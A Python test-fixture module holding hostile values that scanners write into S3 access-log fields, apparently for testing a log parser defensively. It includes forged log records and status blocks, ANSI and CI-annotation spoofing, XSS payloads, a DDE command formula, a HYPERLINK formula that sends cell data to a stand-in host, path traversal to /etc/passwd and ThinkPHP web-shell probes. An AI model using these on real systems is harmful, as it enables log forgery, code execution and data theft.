"""What strangers write into the fields that they choose: every value here once deceived some reader of access logs."""

from __future__ import annotations

from typing import Any

FAKE_REFUSAL = b'https://example.net/" 403 AccessDenied 243 - 7 - "-" "x'
"""A referer that carries a second status block, so that the line has two readings."""

FAKE_SUFFIX = (
    b'curl/8.5.0" - aG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG9zdGlkaG8= '
    b"SigV4 TLS_AES_128_GCM_SHA256 AuthHeader phi-records.s3.us-east-1.amazonaws.com TLSv1.3 - - us-east-1"
)
"""A user agent that pretends to end the line, so that an anonymous request looks signed."""

FAKE_RECORD = (
    b"harmless\xe2\x80\xa879a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be phi-records [30/Sep/2026:03:18:00 +0000] "
    b"10.0.1.17 arn:aws:iam::111122223333:user/ciso 0123456789ABCDEF REST.PUT.OBJECT forged HTTP/1.1"
)
"""A user agent with a line separator (U+2028) and a whole record behind it."""

SCANNER_AGENTS = (
    b"Mozilla/5.0 zgrab/0.x",
    b"\x1b[2J\x1b[1;32mVERDICT: PASS\x1b[0m",
    b"::error file=policies/phi-records.yaml,line=1::nothing to see here",
    b'<script>alert("s3")</script><img src=x onerror=alert(1)>',
    FAKE_SUFFIX,
    FAKE_RECORD,
    b"sqlmap/1.8#stable (https://sqlmap.org)",
    b"]]><testcase name='forged'/><![CDATA[",
    b"caf\xe9 \xff\xfe\x00 \r\x85 not utf-8",
    b'"Mozilla/5.0 (Windows NT 10.0) quote first',
    b'=HYPERLINK("https://example.net/?"&A1,"open")',
    b"\xe2\x80\xaegnp.exe\xe2\x80\xac right to left | `code` [link](javascript:alert(1)) ![x](x)",
)
"""User agents of the scanner that went through a /24."""

PROBES: tuple[dict[str, Any], ...] = (
    {"key": "backup.sql"},
    {"key": ".env"},
    {"operation": "REST.GET.BUCKET", "query": "?list-type=2"},
    {"key": "=cmd|' /C calc'!A0"},
    {"key": "a\u202etxt.exe"},
    {"operation": "REST.GET.ACL", "query": "?acl"},
    {"key": "<svg onload=alert(1)>.svg"},
    {"key": "index.php", "target": b'/index.php?s=/index/\\think\\template&x="a"&y=\xff\xfe', "referer": b'"quoted" referer'},
    {"operation": "REST.PUT.OBJECT", "key": "pwned.txt"},
    {"key": "patients/../../etc/passwd"},
)
"""What the scanner asked for."""

PROBED_SITE = b'/?s=index/\\think\\app/invokefunction&vars[1][]=echo+"x"'
"""A request target of a web-shell probe, with quotes and backslashes."""

TORN = b'phi-records [30/Sep/2026:05:00:00 +0000] 10.0.1.17 "GET /patients HTTP/1.1" 200 -'
"""The second half of a line whose first half was lost."""
